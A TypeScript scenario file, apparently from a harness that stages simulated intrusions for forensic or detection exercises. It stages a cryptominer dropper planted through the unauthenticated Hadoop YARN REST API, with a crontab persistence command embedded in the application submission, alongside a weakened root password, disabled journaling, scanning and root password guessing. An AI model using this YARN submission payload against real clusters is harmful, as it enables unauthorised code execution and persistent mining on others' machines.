// When the miner is fetched others are knocking: a scan, guesses at root, the owner's own login.
import type { Dress } from '../../dress.ts'
import { dropper } from '../../dropper.ts'
import { noJournal } from '../../long-ago.ts'
import { nginx } from '../../nginx.ts'
import { yarn } from '../../products.ts'
import type { Stage } from '../../stage.ts'
import { owner, weak, weakRoot } from '../../weak-root.ts'
import { wordsWith } from '../../words.ts'

export function dress(dress: Dress): void {
  weakRoot(dress)
  dress.toy(yarn)
  nginx(dress, 'root /srv/www;')
  dress.enable('nginx')
  noJournal(dress)
}

export async function plant(stage: Stage): Promise<void> {
  const from = '203.0.113.145'
  const line = dropper(stage, { path: '/tmp/.hadoop/nodemanager', cron: false })
  await stage.inside('mkdir -p /home/yarn; chown yarn: /home/yarn')
  await stage.http('198.51.100.20', ':8088/cluster')
  stage.mark('occurrence')
  await stage.http(from, ':8088/ws/v1/cluster/apps/new-application', '')
  const body = {
    'application-id': 'application_1',
    'application-name': 'hadoop',
    'am-container-spec': { commands: { command: `(crontab -l 2>/dev/null; echo '7 */6 * * * ${line}') | crontab -` } },
    'application-type': 'YARN',
  }
  await stage.http(from, ':8088/ws/v1/cluster/apps', JSON.stringify(body), { 'Content-Type': 'application/json' })
  await stage.later(26, { guesses: 60, friends: [owner] })
  await stage.scan('192.0.2.140')
  await stage.guess('192.0.2.151', 'root', wordsWith('', 20))
  await stage.ssh(owner.address, 'root', { password: weak }, 'uptime')
  await stage.byCron(line, 'yarn')
}
